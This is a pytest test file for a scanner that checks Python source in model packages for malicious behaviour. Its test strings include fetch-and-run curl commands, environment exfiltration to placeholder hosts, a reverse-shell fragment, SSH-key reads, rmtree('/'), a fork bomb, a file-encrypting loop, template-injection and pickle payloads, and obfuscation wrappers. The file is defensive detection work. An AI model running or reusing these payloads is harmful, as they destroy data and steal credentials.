"""Python code is judged by what it does and when, whatever way its names are written."""

from __future__ import annotations

import ast
import base64
import codecs
import random
import time
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assay.core.finding import Severity, Verdict
from assay.scanning.scanners.python_code import judge_source
from assay.scanning.scanners.python_code.reading import read
from assay.scanning.subject import Answer, Subject
from scanning.container_making import ELF, Judged, judge
from scanning.python_code_making import HONEST, HOSTILE


def judged_of(source: str, name: str = "train.py") -> Judged:
    return judge(source.encode(), name)


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_programs_are_malicious(source: str) -> None:
    judged = judged_of(source)
    assert judged.verdict is Verdict.MALICIOUS, judged
    assert judged.family in ("python", "python-encoded")


@pytest.mark.parametrize("source", HONEST.values(), ids=HONEST.keys())
def test_honest_programs_are_clean(source: str) -> None:
    judged = judged_of(source)
    assert judged.verdict is Verdict.CLEAN, judged


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "code.executes-decoded"),
        ("def f(x):\n    exec(x)", "code.executes-text"),
        ("import os\nos.system('curl http://x.invalid | sh')", "code.hostile-command"),
        ("import os\nos.system('touch x')", "code.shell"),
        ("import requests\nexec(requests.get('http://x.invalid').text)",
         "code.downloads-and-runs"),
        ("import socket, os\ns = socket.socket()\nos.dup2(s.fileno(), 0)", "code.reverse-shell"),
        ("import os, requests\nrequests.post('http://x.invalid', data=str(os.environ))",
         "code.network-exfiltration"),
        ("import socket\ns = socket.socket()\ns.connect(('198.51.100.1', 1))",
         "code.network-at-load"),
        ("open('/root/.ssh/id_rsa').read()", "code.private-file"),
        ("import os\nopen(os.path.expanduser('~/.bashrc'), 'a')", "code.persistence"),
        ("import shutil\nshutil.rmtree('/')", "code.destroys"),
        ("import pickle\npickle.load(open('a.pkl', 'rb'))", "code.unsafe-load"),
        ("import torch\ntorch.hub.load('a/b', 'c')", "code.remote-code"),
        ("import ctypes\nctypes.CDLL('./libx.so')", "code.native-load"),
        ("import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1, 2, 3)", "code.native-memory"),
        ("import builtins\nbuiltins.open = lambda *a: None", "code.patches"),
        ("import os\ngetattr(os, 'sys' + 'tem')('x')", "code.obfuscated"),
        ("().__class__.__base__.__subclasses__()", "code.internals"),
        ("import os\nclass A:\n    def __reduce__(self):\n        return os.system, ('x',)",
         "code.pickle-payload"),
        ("# \u202e } if x { \u2066\n", "code.hidden-unicode"),
        ("# coding: utf-7\n", "code.hidden-encoding"),
        ("x = 1;" + " " * 200 + "import os", "code.hidden-off-screen"),
        ("import os\nos.system('pip install x')", "code.installs"),
    ],
)  # fmt: skip
def test_every_rule_has_a_program_that_breaks_it(source: str, rule: str) -> None:
    assert rule in judged_of(source).rules


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        ("import base64\nx = base64.b64decode('cHJpbnQoMSk=')", "code.executes-decoded"),
        ("import torch\ndef f(m):\n    m.eval()\n    m.compile()", "code.executes-text"),
        ("import subprocess\nsubprocess.run(['git', 'rev-parse', 'HEAD'])",
         "code.hostile-command"),
        ("import requests\nx = requests.get('http://x.invalid').json()",
         "code.downloads-and-runs"),
        ("import os\nf = os.dup2", "code.reverse-shell"),
        ("import os, requests\nh = {'A': os.environ['API_TOKEN']}\nrequests.post('u', headers=h)",
         "code.network-exfiltration"),
        ("def f():\n    import requests\n    requests.get('http://x.invalid')",
         "code.network-at-load"),
        ("open('vocab.txt').read()", "code.private-file"),
        ("open('out/config.json', 'w')", "code.persistence"),
        ("import shutil\nshutil.rmtree('build')", "code.destroys"),
        ("import torch\ntorch.load('a', weights_only=True)", "code.unsafe-load"),
        ("from transformers import AutoModel\nAutoModel.from_pretrained('a')",
         "code.remote-code"),
        ("import torch\ntorch.nn.Linear(1, 1)", "code.native-load"),
        ("import builtins\nbuiltins.print = lambda *a: None", "code.patches"),
        ("import torch\ngetattr(torch, 'float' + '32')", "code.obfuscated"),
        ("class A: pass\nA.__subclasses__()", "code.internals"),
        ("class A:\n    def __reduce__(self):\n        return A, ()", "code.pickle-payload"),
        ("x = '\u4f60\u597d \u05e9\u05dc\u05d5\u05dd'", "code.hidden-unicode"),
        ("# coding: latin-1\n", "code.hidden-encoding"),
        ("x = [1," + " " * 20 + "2]", "code.hidden-off-screen"),
        ("print('pip install x')", "code.installs"),
    ],
)  # fmt: skip
def test_every_rule_leaves_its_honest_twin_alone(source: str, rule: str) -> None:
    assert rule not in judged_of(source).rules


def test_when_a_command_runs_decides_how_grave_it_is() -> None:
    at_import = "import os\nos.system('touch x')"
    in_script = "import os\nif __name__ == '__main__':\n    os.system('touch x')"
    in_function = "import os\ndef helper():\n    os.system('touch x')"
    in_model = "import os\nclass M(Base):\n    def forward(self):\n        os.system('touch x')"
    assert judged_of(at_import).verdict is Verdict.MALICIOUS
    assert judged_of(in_script).verdict is Verdict.SUSPICIOUS
    assert judged_of(in_function).verdict is Verdict.SUSPICIOUS
    assert judged_of(in_model).verdict is Verdict.MALICIOUS


def test_files_a_library_calls_by_name_are_entered_everywhere() -> None:
    source = "import os\ndef helper():\n    os.system('touch x')"
    assert judged_of(source, "modeling_x.py").verdict is Verdict.MALICIOUS
    assert judged_of(source, "hubconf.py").verdict is Verdict.MALICIOUS


@pytest.mark.parametrize(
    "command",
    ["nvidia-smi", "git describe --tags", "ffmpeg -i a.wav b.wav", "nvcc --version 2>/dev/null"],
)
def test_commands_models_start_are_clean(command: str) -> None:
    assert judged_of(f"import os\nos.system({command!r})").verdict is Verdict.CLEAN


def test_findings_have_their_line_and_say_what_holds_the_source() -> None:
    subject = Subject("model.keras")
    answer = Answer(subject)
    judge_source("import os\n\nos.system('id')", subject, answer, what="Lambda layer")
    finding = answer.findings[0]
    assert finding.location.line == 3
    assert finding.evidence.startswith("Lambda layer: os.system('id')")


@pytest.mark.parametrize(
    "wrap",
    [
        lambda raw: f"import base64\nexec(base64.b64decode({base64.b64encode(raw)!r}))",
        lambda raw: f"import base64\nexec(base64.b85decode({base64.b85encode(raw)!r}))",
        lambda raw: f"exec(bytes.fromhex({raw.hex()!r}))",
        lambda raw: f"import zlib\nexec(zlib.decompress({zlib.compress(raw)!r}))",
        lambda raw: f"exec(bytes([b ^ 90 for b in {bytes(b ^ 90 for b in raw)!r}]))",
        lambda raw: (
            f"import codecs\nexec(codecs.decode({codecs.encode(raw.decode(), 'rot13')!r}, 'rot13'))"
        ),
        lambda raw: f"exec({raw.decode()[::-1]!r}[::-1])",
        lambda raw: f"exec(''.join(map(chr, {list(raw)})))",
    ],
)
def test_what_is_decoded_is_read_as_well(wrap: object) -> None:
    inner = b"import os\nos.system('curl http://x.invalid | sh')"
    judged = judged_of(wrap(inner))  # type: ignore[operator]
    assert {"code.executes-decoded", "code.hostile-command"} <= judged.rules


def test_layers_of_encoding_are_taken_off_one_by_one() -> None:
    source = "import os\nos.system('id')"
    for _ in range(4):
        packed = base64.b64encode(zlib.compress(source.encode()))
        source = f"import zlib, base64\nexec(zlib.decompress(base64.b64decode({packed!r})))"
    assert "code.shell" in judged_of(source).rules


def test_a_pickle_in_a_literal_is_judged_as_a_pickle() -> None:
    raw = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R."
    assert "pickle.dangerous-import" in judged_of(f"import pickle\npickle.loads({raw!r})").rules


def test_a_program_in_a_literal_is_found() -> None:
    assert "file.executable" in judged_of(f"f = open('x', 'wb')\nf.write({ELF!r})").rules


def test_python_2_is_looked_through_and_unread() -> None:
    judged = judged_of("print 'x'\nimport os\nos.system('curl http://x.invalid | sh')")
    assert "code.hostile-command" in judged.rules
    assert judged_of("print 'x'").verdict is Verdict.UNKNOWN


def test_code_is_known_by_its_content_where_its_name_says_nothing() -> None:
    assert judge(b"#!/usr/bin/env python3\nprint(1)\n", "run").family == "python"
    assert judge(b"import os\n\ndef f():\n    return os.name\n", "handler").family == "python"
    assert judge(b"import the cat, then feed it\n", "notes").family == "text"


def test_files_python_starts_with_are_malicious() -> None:
    assert "code.start-file" in judge(b"import os; os.system('id')\n", "x.pth").rules
    assert judge(b"./src\n/opt/lib\n", "x.pth").verdict is not Verdict.MALICIOUS
    assert "code.start-file" in judge(b"x = 1\n", "sitecustomize.py").rules


def test_an_encoding_that_shows_other_code_is_found() -> None:
    hidden = "# -*- coding: utf-7 -*-\n+AGkAbQBwAG8AcgB0 os, subprocess\nsubprocess.call(['id'])\n"
    judged = judge(hidden.encode(), "a.py")
    assert {"code.hidden-encoding", "code.shell"} <= judged.rules


def test_code_in_an_older_encoding_is_read() -> None:
    judged = judge("# -*- coding: latin-1 -*-\nname = 'caf\xe9'\n".encode("latin-1"), "a.py")
    assert judged.verdict is Verdict.CLEAN, judged


HOSTILE_TO_READERS = {
    "brackets": "(" * 100_000,
    "minus signs": "-" * 50_000 + "1",
    "a long sum": "x = " + "+".join(["'a'"] * 20_000),
    "a long chain": "x = a" + ".b()" * 3_000,
    "many branches": "if a:\n  pass\n" + "elif b:\n  x = 1\n" * 5_000,
    "a huge number": "x = 9 ** 9 ** 9 ** 9\ny = 1 << (1 << 40)",
    "a huge text": "x = 'a' * 10 ** 12\ny = 'b' * 99999999\nz = '%999999999d' % 1",
    "a huge format": "x = '{:>9999999999}'.format(1)\ny = f'{1:>9999999999}'",
    "a loop without end": "i = 0\nwhile i < 10 ** 9:\n    i += 1\n    s = 'a'",
    "recursion": "def f(x):\n    return f(x + 1)\nf(0)",
    "mutual recursion": "def f(x):\n    return g(x)\ndef g(x):\n    return f('a' + x)\nf('')",
    "functions that call functions": "\n".join(
        f"def f{n}(x):\n    return f{n + 1}(x + 'a') + f{n + 1}(x + 'b')" for n in range(30)
    ) + "\nf0('')",
    "a zip bomb": f"import zlib\nx = zlib.decompress({zlib.compress(bytes(10**8))!r})",
    "nested exec": "exec(" * 40 + "'x'" + ")" * 40,
    "a quine": "s = 's = %r\\nexec(s)'\nexec(s)",
    "nested lists": "x = []\n" + "x = [x, x]\n" * 2_000 + "f(x)",
    "many names": "\n".join(f"x{n} = x{n - 1} + 'a'" for n in range(1, 5_000)),
    "unicode": "x = '" + "\u202e" * 10_000 + "'",
    "a surrogate": "x = '\\ud800'\nexec(x)",
    "null bytes": "x = 1\0",
}  # fmt: skip


@pytest.mark.parametrize("source", HOSTILE_TO_READERS.values(), ids=HOSTILE_TO_READERS.keys())
def test_programs_made_to_break_readers_end_soon(source: str) -> None:
    begun = time.process_time()
    judged_of(source)
    assert time.process_time() - begun < 8


SAMPLE = HOSTILE["xor loop"]


def test_every_beginning_of_a_program_ends_with_an_answer() -> None:
    for end in range(len(SAMPLE) + 1):
        judge(SAMPLE[:end].encode(), "a.py")


@given(st.integers(0, 2**32), st.sampled_from([*HOSTILE.values(), *HONEST.values()]))
@settings(max_examples=60, deadline=None)
def test_no_change_to_a_program_makes_the_reader_fail(seed: int, source: str) -> None:
    rng = random.Random(seed)
    raw = bytearray(source.encode())
    for _ in range(rng.randint(1, 6)):
        at = rng.randrange(len(raw))
        raw[at : at + rng.randint(0, 3)] = rng.randbytes(rng.randint(0, 3))
    judge(bytes(raw), "a.py")


@given(st.text(st.characters(codec="utf-8"), min_size=1, max_size=200))
@settings(max_examples=60, deadline=None)
def test_constants_are_worked_out_as_python_does(text: str) -> None:
    """Text that is put together in any way is the text Python makes of it."""
    rng = random.Random(len(text))
    cut = rng.randint(0, len(text))
    ways = [
        f"{text[:cut]!r} + {text[cut:]!r}",
        f"{text[::-1]!r}[::-1]",
        f"''.join([{', '.join(repr(c) for c in text)}])",
        f"'%s%s' % ({text[:cut]!r}, {text[cut:]!r})",
        f"'{{}}{{}}'.format({text[:cut]!r}, {text[cut:]!r})",
        f"''.join(chr(c ^ 3) for c in {[ord(c) ^ 3 for c in text]})",
        f"bytes.fromhex({text.encode().hex()!r}).decode()",
    ]
    for way in ways:
        assert ast.literal_eval(repr(text)) == text
        reading = read(f"import os\nos.system({way})")
        shown = [deed.evidence for deed in reading.deeds if deed.rule.startswith("code.")]
        assert any(repr(text)[:60] in one for one in shown), (way, shown)


def test_a_finding_is_no_graver_for_being_in_a_function_nobody_calls() -> None:
    finding = judged_of("import os\ndef f():\n    os.system('touch x')").findings[0]
    assert finding.severity is Severity.MEDIUM


@pytest.mark.parametrize(
    "source",
    [
        'def f(x: __import__("os").system("curl 192.0.2.7|sh")): ...',
        "def f() -> exec(\"import os;os.system('id')\"): ...",
        'async def f(*a: __import__("os").popen("curl 192.0.2.7|sh")): ...',
        'def f(*, k: __import__("os").system("curl 192.0.2.7|sh") = 1): ...',
    ],
)
def test_annotations_run_where_the_function_is_defined(source: str) -> None:
    assert judge(source.encode(), "modeling_x.py").verdict is Verdict.MALICIOUS


@pytest.mark.parametrize(
    "source",
    [
        (
            "from jinja2 import Template\n"
            "Template(\"{{ x.__init__.__globals__['os'].popen('id').read() }}\").render(x=1)"
        ),
        (
            "from jinja2 import Environment\n"
            'Environment().from_string("{{ cycler.__init__.__globals__.os.system(1) }}").render()'
        ),
        (
            "import glob, os\nfrom cryptography.fernet import Fernet\n"
            "f = Fernet(Fernet.generate_key())\n"
            'for p in glob.glob(os.path.expanduser("~/**/*.*"), recursive=True):\n'
            '    open(p, "wb").write(f.encrypt(open(p, "rb").read()))'
        ),
        "import os\nwhile True: os.fork()",
    ],
    ids=["template", "environment", "encrypts", "forks"],
)
def test_what_ruins_or_gets_out_when_imported_is_malicious(source: str) -> None:
    assert judge(source.encode(), "modeling_x.py").verdict is Verdict.MALICIOUS


@pytest.mark.parametrize(
    ("name", "source"),
    [
        ("train.py", 'import glob\nfor p in glob.glob("./data/**/*.png"): print(p)'),
        ("utils.py", 'from pathlib import Path\nPath("out").joinpath("a").write_bytes(b"")'),
        ("tests/test_scan.py", ("import os\nclass Evil:\n    def __reduce__(self):\n"
         '        return os.system, ("true",)')),
    ],
)  # fmt: skip
def test_what_only_resembles_it_is_not(name: str, source: str) -> None:
    assert judge(source.encode(), name).verdict is Verdict.CLEAN
